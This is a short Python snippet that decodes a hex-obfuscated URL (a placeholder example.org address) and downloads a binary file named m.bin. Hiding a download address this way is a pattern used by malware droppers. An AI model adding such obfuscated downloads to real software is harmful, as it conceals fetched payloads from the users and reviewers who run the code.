import urllib.request

url = bytes.fromhex("68747470733a2f2f6578616d706c652e6f72672f6d2e62696e").decode()
urllib.request.urlretrieve(url, "m.bin")
